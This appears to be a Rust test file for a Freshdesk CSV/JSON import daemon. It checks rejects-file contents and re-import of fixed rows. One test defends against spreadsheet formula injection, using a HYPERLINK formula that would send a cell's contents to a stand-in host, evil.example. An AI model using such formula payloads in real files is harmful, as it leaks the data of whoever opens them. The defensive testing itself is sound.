//! The rejects file end to end: `fdsync run` takes a file with invalid rows and a row Freshdesk
//! refuses; the rejects file holds exactly those rows as written plus `fdsync_error`; fixed and
//! dropped back into the inbox, exactly those rows are imported and nothing else is sent again.

use crate::daemon::{Daemon, WAIT, drop_file, in_state, inbox, inbox_toml};
use crate::helpers::*;

/// Row 2: a bad e-mail; row 3: no subject; row 4: a custom field Freshdesk does not know (the
/// simulator refuses it); rows 1 and 5 are fine. The notes column is not fdsync's.
const INPUT: &str = "email,subject,description,priority,status,cf_host,cf_bogus,notes\n\
    one@example.com,Good one,d,low,open,db-1,,n1\n\
    not-an-email,\"Bad, \"\"email\"\"\",d,low,open,db-2,,\"note, with comma\"\n\
    three@example.com,,d,low,open,db-3,,n3\n\
    four@example.com,Unknown field,\"two\nlines\",low,open,db-4,x,n4\n\
    five@example.com,Good five,d,low,open,db-5,,n5\n";

fn read_csv(path: &std::path::Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new().has_headers(false).from_path(path).expect("rejects file");
    r.records().map(|r| r.expect("record").iter().map(String::from).collect()).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_rejects_file_holds_the_failed_rows_as_written_and_dropped_back_fixed_imports_only_them() {
    let app = spawn_app().await;
    let dir = inbox(&app, "tickets");
    app.write_config(&inbox_toml(&dir, "create_ticket", 0.0));
    let d = Daemon::ready(&app).await;
    drop_file(&app, &dir, "tickets.csv", INPUT);
    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 1).await, "{}", d.log());
    assert_eq!(app.sim.counters().tickets_created, 2, "rows 1 and 5");

    let path = fdsync::report::rejects_path(&app.state_dir(), 1, "tickets.csv").expect("a rejects file");
    assert!(path.ends_with("reports/1-tickets.rejects.csv"), "{}", path.display());
    let mut rows = read_csv(&path);
    let header = INPUT.lines().next().unwrap().split(',').chain(["fdsync_error"]).collect::<Vec<_>>();
    assert_eq!(rows[0], header);
    let cells = |r: &[String]| r[..8].to_vec();
    assert_eq!(
        cells(&rows[1]),
        ["not-an-email", "Bad, \"email\"", "d", "low", "open", "db-2", "", "note, with comma"]
    );
    assert_eq!(cells(&rows[2]), ["three@example.com", "", "d", "low", "open", "db-3", "", "n3"]);
    assert_eq!(
        cells(&rows[3]),
        ["four@example.com", "Unknown field", "two\nlines", "low", "open", "db-4", "x", "n4"]
    );
    assert_eq!(rows.len(), 4, "exactly the three failed rows: {rows:?}");
    assert!(rows[1][8].contains("email"), "{}", rows[1][8]);
    assert!(rows[2][8].contains("subject"), "{}", rows[2][8]);
    assert!(rows[3][8].contains("cf_bogus"), "{}", rows[3][8]);

    // Fix the cells, keep the fdsync_error column, drop the file back in.
    rows[1][0] = "two@example.com".into();
    rows[2][1] = "Fixed three".into();
    rows[3][6] = String::new();
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in &rows {
        w.write_record(r).expect("write");
    }
    let fixed = String::from_utf8(w.into_inner().expect("csv")).expect("utf-8");
    drop_file(&app, &dir, "fixed.csv", &fixed);
    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 2).await, "{}", d.log());

    let counts = subject_counts(&app);
    let want = ["Good one", "Bad, \"email\"", "Fixed three", "Unknown field", "Good five"];
    assert_eq!(counts.len(), 5, "{counts:?}");
    assert!(want.iter().all(|s| counts.get(*s) == Some(&1)), "each ticket once: {counts:?}");
    assert_eq!(app.sim.counters().tickets_created, 5, "only the three fixed rows were sent again");
    assert_eq!(
        outcomes(&app.report("fixed")),
        [("1", "created"), ("2", "created"), ("3", "created")].map(|(a, b)| (a.to_string(), b.to_string()))
    );
    assert_eq!(fdsync::report::rejects_path(&app.state_dir(), 2, "fixed.csv"), None, "nothing failed");
    assert_eq!(d.stop().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_json_file_gets_an_ndjson_rejects_file_of_its_objects() {
    let app = spawn_app().await;
    let input = r#"[
        {"email": "one@example.com", "subject": "ok", "description": "d", "priority": 1, "status": 2},
        {"subject": "no email", "description": "d", "priority": 1, "status": 2, "extra": {"a": [1, 2]}}
    ]"#;
    let path = app.file("t.json", input);
    let out = app.import(&path, &["--action", "create_ticket"]).await;
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stdout(&out).contains("rejects: "), "{}", stdout(&out));
    let rejects = fdsync::report::rejects_path(&app.state_dir(), 1, "t.json").expect("rejects");
    assert!(rejects.ends_with("1-t.rejects.ndjson"));
    let text = std::fs::read_to_string(&rejects).expect("read");
    let line = text.strip_suffix('\n').expect("one line");
    assert!(line.starts_with(r#"{"subject":"no email","description":"d","priority":1,"status":2,"extra":{"a": [1, 2]},"fdsync_error":"#), "{line}");
}

/// Formula injection (issue 20, item 7): a failed row's cells that a spreadsheet would run come
/// back in the rejects file with a leading `'`; fixed and dropped back, Freshdesk receives the
/// values as first written, the `'` taken off exactly once (a cell that really started with `'`
/// keeps it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formula_cells_come_back_quoted_in_the_rejects_and_the_fixed_file_sends_the_original_values() {
    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let app = spawn_app().await;
    let dir = inbox(&app, "tickets");
    app.write_config(&inbox_toml(&dir, "create_ticket", 0.0));
    let d = Daemon::ready(&app).await;
    let input = format!(
        "email,subject,description,priority,status,notes\n\
         not-an-email,-5 degrees in the server room,\"{}\",low,open,@ops\n\
         also-not-an-email,'=already quoted,+1 more,low,open,-\n",
        HYPERLINK.replace('"', "\"\"")
    );
    drop_file(&app, &dir, "formulas.csv", &input);
    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 1).await, "{}", d.log());
    let path = fdsync::report::rejects_path(&app.state_dir(), 1, "formulas.csv").expect("a rejects file");
    let mut rows = read_csv(&path);
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(
        rows[1][..6],
        ["not-an-email", "'-5 degrees in the server room", &format!("'{HYPERLINK}"), "low", "open", "'@ops"]
    );
    assert_eq!(rows[2][..6], ["also-not-an-email", "''=already quoted", "'+1 more", "low", "open", "'-"]);
    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");

    rows[1][0] = "one@example.com".into();
    rows[2][0] = "two@example.com".into();
    let mut w = csv::Writer::from_writer(Vec::new());
    for r in &rows {
        w.write_record(r).expect("write");
    }
    drop_file(&app, &dir, "fixed.csv", &String::from_utf8(w.into_inner().expect("csv")).expect("utf-8"));
    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 2).await, "{}", d.log());
    let mut received: Vec<(String, String)> =
        app.sim.state().tickets.into_iter().map(|t| (t.subject, t.description)).collect();
    received.sort();
    assert_eq!(
        received,
        [
            ("'=already quoted".to_string(), "+1 more".to_string()),
            ("-5 degrees in the server room".to_string(), HYPERLINK.to_string()),
        ]
    );
    assert_eq!(d.stop().await, 0);
}
